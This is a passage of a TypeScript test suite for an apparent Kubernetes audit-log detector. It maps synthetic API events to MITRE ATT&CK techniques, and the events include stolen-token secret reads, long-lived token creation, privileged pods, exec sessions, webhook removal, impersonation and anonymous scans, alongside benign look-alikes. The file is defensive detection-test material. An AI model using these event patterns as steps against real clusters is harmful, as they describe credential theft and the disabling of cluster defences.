      all('list', '', { user: stolen, agent: 'Go-http-client/1.1' }),
      'T1552.007',
    ],
    ['all secrets, refused', all('list', '', { code: 403 }), 'T1552.007'],
    ['the secrets of kube-system', ask('list', ':secrets', { namespace: 'kube-system' }), 'T1552.007'],
    ['the secrets of a namespace', ask('list', ':secrets'), 'T1552.007'],
    ['one secret', ask('get', ':secrets'), 'T1552.007'],
    ['one secret, with curl', ask('get', ':secrets', { agent: 'curl/8.5.0' }), 'T1552.007'],
    ['one secret, with Python', ask('get', ':secrets', { user: stolen, agent: 'python-requests/2.31' }), 'T1552.007'],
    ['one secret, by the token of a pod', ask('get', ':secrets', { user: stolen }), 'T1552.007'],
    [
      'one secret, by an account of the platform in a hand',
      ask('get', ':secrets', { user: 'system:serviceaccount:kube-system:coredns', agent: 'curl/8' }),
      'T1552.007',
    ],
    [
      'one secret, by a node with kubectl',
      ask('get', ':secrets', { user: 'system:node:n1', groups: ['system:nodes'] }),
      'T1552.007',
    ],
    ['one secret, as another', ask('get', ':secrets', { as: { username: stolen } }), 'T1552.007'],
    ['one secret, refused', ask('get', ':secrets', { user: stolen, agent: program, code: 403 }), 'T1552.007'],
    ['all secrets of a namespace deleted', ask('deletecollection', ':secrets'), 'T1485'],
    [
      'a token without end',
      ask('create', ':secrets', { body: { type: 'kubernetes.io/service-account-token' } }),
      'T1098',
    ],
    ['a token', ask('create', ':serviceaccounts/token', { body: { spec: {} } }), 'T1550.001'],
    ['a token, without a body', ask('create', ':serviceaccounts/token'), 'T1550.001'],
    [
      'a token for a year',
      ask('create', ':serviceaccounts/token', { body: { spec: { expirationSeconds: 31_536_000 } } }),
      'T1550.001',
    ],
    ['a token of the platform', ask('create', ':serviceaccounts/token', { namespace: 'kube-system' }), 'T1550.001'],
    [
      'a token, by a stolen token',
      ask('create', ':serviceaccounts/token', { user: stolen, agent: 'curl/8' }),
      'T1550.001',
    ],
    [
      'a config map with a password',
      ask('create', ':configmaps', { body: { data: { password: 'hunter2' } } }),
      'T1552.001',
    ],
    [
      'a config map with a password in a file',
      ask('patch', ':configmaps', { body: { data: { 'app.ini': '[db]\npassword = hunter2\n' } } }),
      'T1552.001',
    ],
    [
      'a config map with a key, in a JSON patch',
      ask('patch', ':configmaps', { body: [{ op: 'add', path: '/data/AWS_SECRET_ACCESS_KEY', value: 'abc' }] }),
      'T1552.001',
    ],
    [
      'a config map with a key, updated',
      ask('update', ':configmaps', { body: { data: { id_rsa: '-----BEGIN RSA PRIVATE KEY-----\nx' } } }),
      'T1552.001',
    ],
    [
      'who may enter an EKS cluster',
      ask('patch', ':configmaps', { namespace: 'kube-system', name: 'aws-auth', body: { data: {} } }),
      'T1098',
    ],
    [
      'names of the cluster',
      ask('update', ':configmaps', { namespace: 'kube-system', name: 'coredns', body: { data: {} } }),
      'T1557',
    ],
    [
      'names of the cluster, deleted',
      ask('delete', ':configmaps', { namespace: 'kube-system', name: 'coredns' }),
      'T1557',
    ],
  ])
  check([
    [
      'the cache of an operator',
      [
        all('list', '?limit=500&resourceVersion=0', { user: stolen, agent: program }),
        all('watch', '?allowWatchBookmarks=true&resourceVersion=12&watch=true', { user: stolen, agent: program }),
      ],
      null,
    ],
    [
      'the secret of an operator',
      ask('get', ':secrets', {
        user: 'system:serviceaccount:cert-manager:cert-manager',
        agent: 'cert-manager-controller/v1 (linux/amd64) cert-manager/x',
      }),
      null,
    ],
    [
      'the secret of a pod, by its kubelet',
      ask('get', ':secrets', {
        user: 'system:node:n1',
        groups: ['system:nodes'],
        agent: 'kubelet/v1.31 (linux/amd64) kubernetes/x',
      }),
      null,
    ],
    [
      'the keys of the dashboard',
      ask('get', ':secrets', {
        user: 'system:serviceaccount:kubernetes-dashboard:kubernetes-dashboard',
        agent: 'dashboard/v2.7.0',
        namespace: 'kubernetes-dashboard',
      }),
      null,
    ],
    [
      'the secrets of Argo CD',
      ask('list', ':secrets', {
        user: 'system:serviceaccount:argocd:argocd-notifications-controller',
        agent: 'argocd-notifications/v2',
        namespace: 'argocd',
      }),
      null,
    ],
    [
      'a release of Helm',
      [
        ask('list', ':secrets', {
          agent: helm,
          uri: '/api/v1/namespaces/shop/secrets?labelSelector=name%3Dweb%2Cowner%3Dhelm',
        }),
        ask('create', ':secrets', {
          agent: helm,
          name: 'sh.helm.release.v1.web.v1',
          uri: '/api/v1/namespaces/shop/secrets',
          body: { type: 'helm.sh/release.v1' },
        }),
      ],
      null,
    ],
    ['a secret that is made', ask('create', ':secrets', { body: { type: 'Opaque' } }), null],
    [
      'a token for a pod, by its kubelet',
      ask('create', ':serviceaccounts/token', {
        user: 'system:node:n1',
        groups: ['system:nodes'],
        agent: 'kubelet/v1.31',
      }),
      null,
    ],
    [
      'a token for a controller',
      ask('create', ':serviceaccounts/token', {
        user: 'system:kube-controller-manager',
        agent: 'kube-controller-manager/v1',
        namespace: 'kube-system',
      }),
      null,
    ],
    [
      'a config map',
      ask('create', ':configmaps', {
        body: { data: { PASSWORD_MIN_LENGTH: '12', LOG_LEVEL: 'info', PASSWORD_FILE: '/run/secrets/db' } },
      }),
      null,
    ],
    ['a config map, read', ask('get', ':configmaps'), null],
    [
      'a certificate of the cluster',
      ask('create', ':configmaps', {
        user: 'system:serviceaccount:kube-system:root-ca-cert-publisher',
        agent: 'kube-controller-manager/v1',
        body: { data: { 'ca.crt': 'x' } },
      }),
      null,
    ],
  ])
})

describe('the control of the cluster', () => {
  const admission = (kind: string) => `admissionregistration.k8s.io:${kind}`
  const certificates = (kind: string) => `certificates.k8s.io:${kind}`
  const signed = (signerName: string) => ({ spec: { signerName: `kubernetes.io/${signerName}`, request: 'x' } })
  const approved = { status: { conditions: [{ type: 'Approved', status: 'True' }] } }
  check([
    ...[
      'mutatingwebhookconfigurations',
      'validatingwebhookconfigurations',
      'validatingadmissionpolicies',
      'validatingadmissionpolicybindings',
      'mutatingadmissionpolicies',
      'mutatingadmissionpolicybindings',
    ].flatMap((kind): Row[] => [
      ...['create', 'update', 'patch', 'delete', 'deletecollection'].map(
        (verb): Row => [
          `${verb} ${kind}`,
          ask(verb, admission(kind), { namespace: null }),
          verb.startsWith('delete') ? 'T1562' : 'T1546',
        ],
      ),
      [
        `delete ${kind}, under the name of Helm`,
        ask('delete', admission(kind), { namespace: null, agent: helm }),
        'T1562',
      ],
      [`create ${kind}, by a stolen token`, ask('create', admission(kind), { namespace: null, user: stolen }), 'T1546'],
    ]),
    [
      'a webhook that lets failures through',
      ask('patch', admission('validatingwebhookconfigurations'), {
        agent: 'terraform/1',
        body: { webhooks: [{ name: 'a', failurePolicy: 'Ignore' }] },
      }),
      'T1562',
    ],
    [
      'a policy without validations',
      ask('update', admission('validatingadmissionpolicies'), {
        namespace: null,
        agent: helm,
        body: { spec: { validations: [] } },
      }),
      'T1562',
    ],
    [
      'a request for a certificate',
      ask('create', certificates('certificatesigningrequests'), { body: signed('kube-apiserver-client') }),
      'T1649',
    ],
    ['a request for a certificate, without a body', ask('create', certificates('certificatesigningrequests')), 'T1649'],
    [
      'a request for the certificate of a node',
      ask('create', certificates('certificatesigningrequests'), { body: signed('kube-apiserver-client-kubelet') }),
      'T1649',
    ],
    [
      'a request of an old form',
      ask('create', certificates('certificatesigningrequests'), { body: { spec: { request: 'x' } } }),
      'T1649',
    ],
    [
      'a request by a stolen token',
      ask('create', certificates('certificatesigningrequests'), {
        user: stolen,
        body: signed('kube-apiserver-client'),
      }),
      'T1649',
    ],
    [
      'an approval',
      ask('update', certificates('certificatesigningrequests/approval'), {
        body: { ...signed('kube-apiserver-client'), ...approved },
      }),
      'T1649',
    ],
    [
      'an approval by a patch',
      ask('patch', certificates('certificatesigningrequests/approval'), { body: approved }),
      'T1649',
    ],
    [
      'an approval by a JSON patch',
      ask('patch', certificates('certificatesigningrequests/approval'), {
        body: [{ op: 'add', path: '/status/conditions', value: approved.status.conditions }],
      }),
      'T1649',
    ],
    ['an approval, without a body', ask('update', certificates('certificatesigningrequests/approval')), 'T1649'],
    [
      'somebody as an administrator',
      ask('list', ':pods', { as: { username: 'x', groups: ['system:masters'] } }),
      'T1134',
    ],
    [
      'somebody as a controller',
      ask('list', ':pods', { as: { username: 'system:serviceaccount:kube-system:generic-garbage-collector' } }),
      'T1134',
    ],
    [
      'somebody as a node',
      ask('get', ':secrets', { as: { username: 'system:node:n1', groups: ['system:nodes'] } }),
      'T1134',
    ],
    ['somebody as another', ask('list', ':pods', { as: { username: 'bob' } }), 'T1134'],
    [
      'somebody who may not',
      ask('list', ':pods', {
        code: 403,
        message:
          'users "admin" is forbidden: User "jane@example.com" cannot impersonate resource "users" in API group "" at the cluster scope',
      }),
      'T1134',
    ],
    [
      'an account that may not',
      ask('list', ':pods', {
        user: stolen,
        agent: 'curl/8',
        code: 403,
        message: 'groups "system:masters" is forbidden: User "x" cannot impersonate resource "groups"',
      }),
      'T1134',
    ],
    ['a question about rights', ask('create', 'authorization.k8s.io:selfsubjectrulesreviews', { name: null }), 'T1613'],
    [
      'a question about rights, by a stolen token',
      ask('create', 'authorization.k8s.io:selfsubjectaccessreviews', { user: stolen, agent: 'curl/8', name: null }),
      'T1069.003',
    ],
    [
      'a question about rights, by a node in a hand',
      ask('create', 'authorization.k8s.io:selfsubjectrulesreviews', {
        user: 'system:node:n1',
        groups: ['system:nodes'],
        name: null,
      }),
      'T1613',
    ],
    ['events deleted', ask('deletecollection', ':events'), 'T1070'],
    ['an event deleted, of the new group', ask('delete', 'events.k8s.io:events'), 'T1070'],
    ['events deleted by a stolen token', ask('delete', ':events', { user: stolen }), 'T1070'],
    ['a namespace deleted', ask('delete', ':namespaces'), 'T1485'],
    ['pods deleted at once', ask('deletecollection', ':pods'), 'T1489'],
    ['a service on all nodes', ask('create', ':services', { body: { spec: { type: 'NodePort' } } }), 'T1133'],
    [
      'a service that is opened',
      ask('patch', ':services', { body: { spec: { type: 'NodePort' } }, response: { spec: { type: 'NodePort' } } }),
      'T1133',
    ],
    [
      'a service that is opened by a JSON patch',
      ask('patch', ':services', { body: [{ op: 'replace', path: '/spec/type', value: 'NodePort' }] }),
      'T1133',
    ],
    [
      'a service that is opened by an update',
      ask('update', ':services', { body: { spec: { type: 'NodePort' } } }),
      'T1133',
    ],
    ['a load balancer', ask('create', ':services', { body: { spec: { type: 'LoadBalancer' } } }), 'T1133'],
    ['an address of others', ask('patch', ':services', { body: { spec: { externalIPs: ['1.2.3.4'] } } }), 'T1133'],
    [
      'an ingress without TLS',
      ask('create', 'networking.k8s.io:ingresses', { body: { spec: { rules: [] } } }),
      'T1040',
    ],
    ['a network policy deleted', ask('delete', 'networking.k8s.io:networkpolicies'), 'T1562.007'],
    [
      'a network policy changed',
      ask('patch', 'networking.k8s.io:networkpolicies', { body: { spec: {} } }),
      'T1562.007',
    ],
    [
      'all network policies deleted',
      ask('deletecollection', 'networking.k8s.io:networkpolicies', { agent: helm }),
      'T1562.007',
    ],
    ['a node deleted', ask('delete', ':nodes'), 'T1489'],
    [
      'nodes closed one after the other',
      ['n1', 'n2', 'n3', 'n4'].map((name) => ask('patch', ':nodes', { name, body: { spec: { unschedulable: true } } })),
      'T1489',
    ],
    [
      'a namespace that allows everything',
      ask('patch', ':namespaces', {
        body: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } },
      }),
      'T1562.001',
    ],
    [
      'a namespace whose level goes',
      ask('patch', ':namespaces', { body: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': null } } } }),
      'T1562.001',
    ],
    [
      'a namespace whose level goes by a JSON patch',
      ask('patch', ':namespaces', {
        body: [{ op: 'remove', path: '/metadata/labels/pod-security.kubernetes.io~1enforce' }],
        response: { metadata: { labels: {} } },
      }),
      'T1562.001',
    ],
    [
      'a namespace whose labels go',
      ask('patch', ':namespaces', { body: [{ op: 'remove', path: '/metadata/labels' }] }),
      'T1562.001',
    ],
    [
      'a namespace that is made for everything',
      ask('create', ':namespaces', {
        body: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } },
      }),
      'T1562.001',
    ],
    ["an audit ID of one's own", { ...ask('list', ':pods'), auditID: 'x'.repeat(200) }, 'T1562.008'],
    [
      'a policy that failed',
      ask('create', ':pods', { marks: { 'validation.policy.admission.k8s.io/validation_failure': '[{}]' } }),
      'T1562.001',
    ],
    [
      'a webhook that failed open',
      ask('create', ':pods', { marks: { 'failed-open.validating.webhook.admission.k8s.io/round_0_index_0': 'x' } }),
      'T1562.001',
    ],
  ])
  check([
    ['a namespace', ask('create', ':namespaces', { body: { metadata: { name: 'shop' } } }), null],
    [
      'a namespace with a level',
      ask('create', ':namespaces', {
        body: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'restricted' } } },
      }),
      null,
    ],
    [
      'another label of a namespace',
      ask('patch', ':namespaces', {
        body: { metadata: { labels: { team: 'a' } } },
        response: { metadata: { labels: { team: 'a' } } },
      }),
      null,
    ],
    [
      'another label of a namespace for everything',
      ask('patch', ':namespaces', {
        body: { metadata: { labels: { team: 'a' } } },
        response: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } },
      }),
      null,
    ],
    [
      'a note on a namespace',
      ask('patch', ':namespaces', {
        body: { metadata: { annotations: { a: 'b' } } },
        response: { metadata: { labels: {} } },
      }),
      null,
    ],
    ['a service inside', ask('create', ':services', { body: { spec: { type: 'ClusterIP' } } }), null],
    [
      'a label of a service on all nodes',
      ask('patch', ':services', {
        body: { metadata: { labels: { a: 'b' } } },
        response: { spec: { type: 'NodePort' } },
      }),
      null,
    ],
    [
      'an ingress with TLS',
      ask('create', 'networking.k8s.io:ingresses', { body: { spec: { tls: [{ secretName: 'a' }] } } }),
      null,
    ],
    [
      'a network policy that is made',
      ask('create', 'networking.k8s.io:networkpolicies', { body: { spec: { podSelector: {} } } }),
      null,
    ],
    ['one node closed', ask('patch', ':nodes', { body: { spec: { unschedulable: true } } }), null],
    ['a node opened', ask('patch', ':nodes', { body: { spec: { unschedulable: null } } }), null],
    [
      'a taint of a node',
      ask('patch', ':nodes', { body: { spec: { taints: [{ key: 'a', effect: 'NoSchedule' }] } } }),
      null,
    ],
    ['a pod deleted', ask('delete', ':pods'), null],
    ['a deployment deleted', ask('delete', 'apps:deployments'), null],
    [
      'pods of a deployment deleted by its controller',
      ask('deletecollection', ':pods', {
        user: 'system:serviceaccount:kube-system:namespace-controller',
        agent: 'kube-controller-manager/v1',
      }),
      null,
    ],
    [
      'the certificate of a kubelet',
      ask('create', certificates('certificatesigningrequests'), {
        user: 'system:node:n1',
        groups: ['system:nodes'],
        agent: 'kubelet/v1',
        body: signed('kubelet-serving'),
      }),
      null,
    ],
    [
      'a kubelet that joins',
      ask('create', certificates('certificatesigningrequests'), {
        user: 'system:bootstrap:abcdef',
        agent: 'kubelet/v1',
        body: signed('kube-apiserver-client-kubelet'),
      }),
      null,
    ],
    [
      'the approval of the certificate of a kubelet',
      ask('update', certificates('certificatesigningrequests/approval'), {
        user: 'system:serviceaccount:kube-system:certificate-controller',
        agent: 'kube-controller-manager/v1',
        body: { ...signed('kube-apiserver-client-kubelet'), ...approved },
      }),
      null,
    ],
    [
      'a certificate that is denied',
      ask('update', certificates('certificatesigningrequests/approval'), {
        body: { ...signed('kube-apiserver-client'), status: { conditions: [{ type: 'Denied' }] } },
      }),
      null,
    ],
    [
      'a review by an authenticating proxy',
      ask('create', 'authentication.k8s.io:tokenreviews', { user: stolen, agent: program, name: null }),
      null,
    ],
    ['what kubectl shows', ['pods', 'services', 'replicationcontrollers'].map((what) => ask('list', `:${what}`)), null],
    [
      'all that kubectl shows',
      [
        ask('list', ':pods'),
        ask('list', ':services'),
        ask('list', 'apps:deployments'),
        ask('list', 'apps:daemonsets'),
        ask('list', 'apps:replicasets'),
        ask('list', 'apps:statefulsets'),
        ask('list', 'batch:jobs'),
        ask('list', ':nodes'),
        ask('list', ':namespaces'),
        ask('list', ':configmaps'),
      ],
      null,
    ],
    [
      'a configuration that is applied',
      [
        ask('get', 'apps:deployments', { code: 404 }),
        ask('create', 'apps:deployments', { body: workload({}) }),
        ask('get', ':services', { code: 404 }),
        ask('create', ':services', { body: { spec: {} } }),
        ask('patch', 'apps:deployments', { body: workload({}) }),
      ],
      null,
    ],
    ['somebody who is told who he is', ask('create', 'authentication.k8s.io:selfsubjectreviews', { name: null }), null],
    [
      'a lease',
      ask('update', 'coordination.k8s.io:leases', { user: 'system:kube-scheduler', agent: 'kube-scheduler/v1' }),
      null,
    ],
  ])
})

describe('who may ask at all', () => {
  const stranger = {
    user: 'system:anonymous',
    groups: ['system:unauthenticated'],
    agent: 'curl/8.5.0',
    address: '203.0.113.9',
  }
  const path = (uri: string, told: Told = {}) => {
    const { objectRef: _, ...event } = ask('get', ':pods', { ...stranger, uri, ...told }) as Record<string, unknown>
    return event
  }
  check([
    ['a stranger who lists pods', ask('list', ':pods', stranger), 'T1078.001'],
    ['a guest in the group of strangers', ask('list', ':pods', { ...stranger, user: 'guest' }), 'T1078.001'],
    [
      'a stranger who tries a pod out',
      ask('create', ':pods', { ...stranger, uri: '/api/v1/namespaces/shop/pods?dryRun=All', body: pod({}) }),
      'T1610',
    ],
    ['a stranger who starts a pod', ask('create', ':pods', { ...stranger, body: pod({}) }), 'T1610'],
    ['a stranger who starts a daemon set', ask('create', 'apps:daemonsets', stranger), 'T1610'],
    ['a stranger who may not start a pod', ask('create', ':pods', { ...stranger, code: 403 }), 'T1610'],
    ['a stranger who may not read', ask('list', ':pods', { ...stranger, code: 403 }), 'T1046'],
    ['a stranger at the metrics', path('/metrics'), 'T1078.001'],
    ['a stranger who is told what kinds there are', path('/apis'), 'T1078.001'],
    ['a stranger at a log', path('/logs/kube-apiserver.log'), 'T1078.001'],
    ['a scanner', path('/api', { agent: 'kube-hunter/0.6', code: 403 }), 'T1046'],
    ['a wrong token', path('/api', { user: '', groups: [], code: 401, stage: 'ResponseStarted' }), 'T1110'],
    [
      'a system identity from outside',
      ask('list', ':pods', {
        user: 'system:serviceaccount:kube-system:replicaset-controller',
        agent: 'kubectl/v1',
        address: '203.0.113.9',
      }),
      'T1078',
    ],
    [
      'a stolen token from outside',
      ask('list', ':pods', { user: stolen, agent: 'curl/8', address: '203.0.113.9' }),
      'T1528',
    ],
    [
      'a controller in a hand',
      ask('list', ':pods', { user: 'system:serviceaccount:kube-system:generic-garbage-collector' }),
      'T1528',
    ],
    [
      'the controller manager in a hand',
      ask('create', ':pods', { user: 'system:kube-controller-manager', agent: 'curl/8', body: pod({}) }),
      'T1078',
    ],
    [
      'a node in a hand, refused',
      ask('list', ':secrets', { user: 'system:node:n1', groups: ['system:nodes'], agent: 'curl/8', code: 403 }),
      'T1552.007',
    ],
    [
      'an attack tool with a token',
      ask('list', ':pods', { user: 'system:serviceaccount:shop:web', agent: 'kube-hunter/0.6' }),
      'T1613',
    ],
    ['a node in a hand', ask('list', ':pods', { user: 'system:node:n1', groups: ['system:nodes'] }), 'T1078'],
    [
      'many refusals',
      ['pods', 'services', 'configmaps', 'nodes', 'namespaces', 'endpoints'].map((what) =>
        ask('list', `:${what}`, { code: 403 }),
      ),
      'T1613',
    ],
    [
      'many refusals of a program',
      ['pods', 'services', 'configmaps', 'nodes', 'namespaces', 'endpoints'].map((what) =>
        ask('list', `:${what}`, { user: stolen, agent: program, code: 403 }),
      ),
      'T1613',
    ],
    [
      'a map of rights',
      [
        ask('list', rbac('roles')),
        ask('list', rbac('clusterroles')),
        ask('list', ':serviceaccounts'),
        ask('list', rbac('rolebindings')),
        ask('list', ':nodes'),
      ],
      'T1613',
    ],
    ['ten secrets', Array.from({ length: 11 }, (_, n) => ask('get', ':secrets', { name: `s${n}` })), 'T1552.007'],
    [
      'rights, and a pod that uses them',
      [
        ask('create', rbac('rolebindings'), { body: binding('view', account) }),
        ask('create', ':pods', { body: pod({ serviceAccountName: 'web' }) }),
      ],
      'T1610',
    ],
  ])
  check([
    [
      'a stranger at the health pages',
      [path('/healthz'), path('/livez?verbose'), path('/readyz/etcd'), path('/version')],
      null,
    ],
    ['a stranger at an old health page', path('/healthz?timeout=32s', { agent: 'kube-probe/1.31' }), null],
    [
      'a node that joins and reads where to',
      ask('get', ':configmaps', { ...stranger, namespace: 'kube-public', name: 'cluster-info' }),
      null,
    ],
    ['an operator that is refused once', ask('list', ':nodes', { user: stolen, agent: program, code: 403 }), null],
    [
      'a controller that is refused',
      ask('list', 'example.com:things', {
        user: 'system:serviceaccount:kube-system:generic-garbage-collector',
        agent: 'kube-controller-manager/v1',
        code: 403,
      }),
      null,
    ],
    [
      'a kubelet outside',
      ask('list', ':pods', {
        user: 'system:node:n1',
        groups: ['system:nodes'],
        agent: 'kubelet/v1',
        address: '203.0.113.9',
      }),
      null,
    ],
  ])
})

describe('events in the wrappings of clouds and of old servers', () => {
  const google = (method: string, resourceName: string, request?: unknown, told: Told = {}) => ({
    insertId: 'abc',
    logName: 'projects/p/logs/cloudaudit.googleapis.com%2Factivity',
    timestamp: '2026-01-05T10:00:00.000001Z',
    resource: { type: 'k8s_cluster', labels: { cluster_name: 'c', location: 'l', project_id: 'p' } },
    labels: { 'authorization.k8s.io/decision': told.code === 403 ? 'forbid' : 'allow', ...told.marks },
    protoPayload: {
      '@type': 'type.googleapis.com/google.cloud.audit.AuditLog',
      serviceName: 'k8s.io',
      methodName: method,
      resourceName,
      authenticationInfo: { principalEmail: told.user ?? 'jane@example.com' },
      authorizationInfo: [{ granted: told.code !== 403, permission: 'io.k8s', resource: resourceName }],
      requestMetadata: {
        callerIp: told.address ?? '10.1.2.3',
        callerSuppliedUserAgent: told.agent ?? 'kubectl/v1.31.0',
      },
      ...(request === undefined ? {} : { request }),
      ...(told.code === 403 ? { status: { code: 7, message: 'Forbidden' } } : {}),
    },
  })
  check([
    [
      'GKE: a privileged pod',
      google('io.k8s.core.v1.pods.create', 'core/v1/namespaces/shop/pods/x', pod(privileged)),
      'T1611',
    ],
    [
      'GKE: a privileged cron job',
      google('io.k8s.batch.v1.cronjobs.patch', 'batch/v1/namespaces/shop/cronjobs/x', cron(privileged)),
      'T1611',
    ],
    ['GKE: exec', google('io.k8s.core.v1.pods.exec.create', 'core/v1/namespaces/shop/pods/x/exec'), 'T1609'],
    ['GKE: attach', google('io.k8s.core.v1.pods.attach.create', 'core/v1/namespaces/shop/pods/x/attach'), 'T1609'],
    [
      'GKE: port forward',
      google('io.k8s.core.v1.pods.portforward.create', 'core/v1/namespaces/shop/pods/x/portforward'),
      'T1572',
    ],
    [
      'GKE: an ephemeral container',
      google('io.k8s.core.v1.pods.ephemeralcontainers.patch', 'core/v1/namespaces/shop/pods/x/ephemeralcontainers', {
        spec: {},
      }),
      'T1609',
    ],
    [
      'GKE: a token',
      google('io.k8s.core.v1.serviceaccounts.token.create', 'core/v1/namespaces/shop/serviceaccounts/x/token'),
      'T1550.001',
    ],
    ['GKE: all secrets', google('io.k8s.core.v1.secrets.list', 'core/v1/secrets'), 'T1552.007'],
    [
      'GKE: the secrets of kube-system',
      google('io.k8s.core.v1.secrets.list', 'core/v1/namespaces/kube-system/secrets'),
      'T1552.007',
    ],
    [
      'GKE: a secret, refused',
      google('io.k8s.core.v1.secrets.get', 'core/v1/namespaces/shop/secrets/x', undefined, { code: 403 }),
      'T1552.007',
    ],
    [
      'GKE: cluster-admin',
      google(
        'io.k8s.authorization.rbac.v1.clusterrolebindings.create',
        'rbac.authorization.k8s.io/v1/clusterrolebindings/x',
        binding('cluster-admin', account),
      ),
      'T1098.006',
    ],
    [
      'GKE: wildcards',
      google(
        'io.k8s.authorization.rbac.v1.clusterroles.update',
        'rbac.authorization.k8s.io/v1/clusterroles/x',
        role(rule(['*'], ['*'], ['*'])),
      ),
      'T1098.006',
    ],
    [
      'GKE: a built-in role',
      google(
        'io.k8s.authorization.rbac.v1.clusterroles.delete',
        'rbac.authorization.k8s.io/v1/clusterroles/system:node',
      ),
      'T1098.006',
    ],
    [
      'GKE: an approval',
      google(
        'io.k8s.certificates.v1.certificatesigningrequests.approval.update',
        'certificates.k8s.io/v1/certificatesigningrequests/x/approval',
        { spec: { signerName: 'kubernetes.io/kube-apiserver-client' }, status: { conditions: [{ type: 'Approved' }] } },
      ),
      'T1649',
    ],
    [
      'GKE: a request for a certificate',
      google(
        'io.k8s.certificates.v1.certificatesigningrequests.create',
        'certificates.k8s.io/v1/certificatesigningrequests/x',
        { spec: { signerName: 'kubernetes.io/kube-apiserver-client' } },
      ),
      'T1649',
    ],
    [
      'GKE: a webhook',
      google(
        'io.k8s.admissionregistration.v1.mutatingwebhookconfigurations.create',
        'admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/x',
        {},
      ),
      'T1546',
    ],
    [
      'GKE: a webhook that goes',
      google(
        'io.k8s.admissionregistration.v1.validatingwebhookconfigurations.delete',
        'admissionregistration.k8s.io/v1/validatingwebhookconfigurations/x',
      ),
      'T1562',
    ],
    [
      'GKE: a service on all nodes',
      google('io.k8s.core.v1.services.create', 'core/v1/namespaces/shop/services/x', { spec: { type: 'NodePort' } }),
      'T1133',
    ],
    [
      'GKE: a stranger',
      google('io.k8s.core.v1.pods.list', 'core/v1/namespaces/shop/pods', undefined, {
        user: 'system:anonymous',
        address: '203.0.113.9',
      }),
      'T1078.001',
    ],
    ['GKE: the proxy of a node', google('io.k8s.core.v1.nodes.proxy.get', 'core/v1/nodes/n1/proxy/pods'), 'T1613'],
    [
      'GKE: names of the cluster',
      google('io.k8s.core.v1.configmaps.update', 'core/v1/namespaces/kube-system/configmaps/kube-dns', { data: {} }),
      'T1557',
    ],
  ])
  check([
    [
      'GKE: an ordinary deployment',
      google('io.k8s.apps.v1.deployments.create', 'apps/v1/namespaces/shop/deployments/x', workload({})),
      null,
    ],
    [
      'GKE: a pod of its own agent',
      google('io.k8s.core.v1.pods.create', 'core/v1/namespaces/kube-system/pods/x', pod({ hostNetwork: true }), {
        user: 'system:serviceaccount:kube-system:daemon-set-controller',
        agent: 'kube-controller-manager/v1',
      }),
      null,
    ],
    [
      'GKE: the status of a pod',
      google(
        'io.k8s.core.v1.pods.status.patch',
        'core/v1/namespaces/shop/pods/x/status',
        { status: {} },
        { user: 'system:node:n1', agent: 'kubelet/v1' },
      ),
      null,
    ],
  ])

  const events: readonly Row[] = [
    ['a privileged pod', ask('create', ':pods', { body: pod(privileged) }), 'T1611'],
    [
      'exec',
      ask('create', ':pods/exec', { code: 101, uri: '/api/v1/namespaces/shop/pods/web/exec?command=sh' }),
      'T1609',
    ],
    [
      'cluster-admin',
      ask('create', rbac('clusterrolebindings'), { body: binding('cluster-admin', account) }),
      'T1098.006',
    ],
    [
      'a JSON patch of a level',
      ask('patch', ':namespaces', {
        body: [{ op: 'remove', path: '/metadata/labels/pod-security.kubernetes.io~1enforce' }],
      }),
      'T1562.001',
    ],
    [
      'a config map with a password',
      ask('create', ':configmaps', { body: { data: { password: 'hunter2' } } }),
      'T1552.001',
    ],
    ['an ordinary deployment', ask('create', 'apps:deployments', { body: workload({}) }), null],
  ]
  const wrappings: readonly (readonly [says: string, wrap: (event: object) => object])[] = [
    [
      'AKS, as text',
      (event) => ({
        time: 'x',
        category: 'kube-audit-admin',
        operationName: 'Microsoft.ContainerService/managedClusters/diagnosticLogs/Read',
        resourceId: '/SUBSCRIPTIONS/X',
        properties: { log: JSON.stringify(event), stream: 'stdout', pod: 'kube-apiserver-x' },
      }),
    ],
    [
      'AKS, as an object',
      (event) => ({ category: 'kube-audit', resourceId: '/SUBSCRIPTIONS/X', properties: { log: event } }),
    ],
    [
      'AKS, in records',
      (event) => ({ records: [{ category: 'kube-audit', properties: { log: JSON.stringify(event) } }] }),
    ],
    ['EKS, as a message', (event) => ({ id: '1', timestamp: 1, message: JSON.stringify(event) })],
    [
      'EKS, in an envelope',
      (event) => ({
        messageType: 'DATA_MESSAGE',
        owner: '1',
        logGroup: '/aws/eks/c/cluster',
        logStream: 'kube-apiserver-audit-x',
        logEvents: [{ id: '1', timestamp: 1, message: JSON.stringify(event) }],
      }),
    ],
    [
      'a list',
      (event) => ({
        kind: 'EventList',
        apiVersion: 'audit.k8s.io/v1',
        metadata: {},
        items: [{ ...event, kind: undefined, apiVersion: undefined }],
      }),
    ],
    [
      'an old server',
      (event) => ({
        ...event,
        apiVersion: 'audit.k8s.io/v1beta1',
        metadata: { creationTimestamp: '2018-10-25T13:55:08Z' },
        timestamp: '2018-10-25T13:55:08Z',
      }),
    ],
    [
      'a server that counts in milliseconds',
      (event) => ({
        ...event,
        requestReceivedTimestamp: '2026-01-05T10:00:00.001Z',
        stageTimestamp: '2026-01-05T10:00:00Z',
      }),
    ],
    [
      'a sender that leaves out stage and times',
      (event) => ({ ...event, stage: undefined, requestReceivedTimestamp: undefined, stageTimestamp: undefined }),
    ],
    ['a server without annotations', (event) => ({ ...event, annotations: undefined })],
    ['a panic', (event) => ({ ...event, stage: 'Panic' })],
  ]
  check(
    wrappings.flatMap(([where, wrap]) =>
      events.map(([says, event, technique]): Row => [`${where}: ${says}`, wrap(event as object), technique]),
    ),
  )

  test('the event that only says that a request came is silent', () => {
    for (const [, event] of events)
      expect(worst([{ ...event, stage: 'RequestReceived', responseStatus: undefined }])).toBeNull()
  })
})

describe('what happens by itself when a cluster is set up or an application is brought up to date', () => {
  const admin = { user: 'kubernetes-admin', groups: ['kubeadm:cluster-admins', 'system:authenticated'] }
  const kubeadm = { ...admin, agent: 'kubeadm/v1.31.0 (linux/amd64) kubernetes/9edcffc' }
  const own = (name: string, namespace = 'kube-system') => ({ kind: 'ServiceAccount', name, namespace })
  const group = (name: string) => ({ kind: 'Group', name })
  check([
    [
      'kubeadm init',
      [
        ask('create', ':configmaps', {
          ...kubeadm,
          namespace: 'kube-system',
          name: 'kubeadm-config',
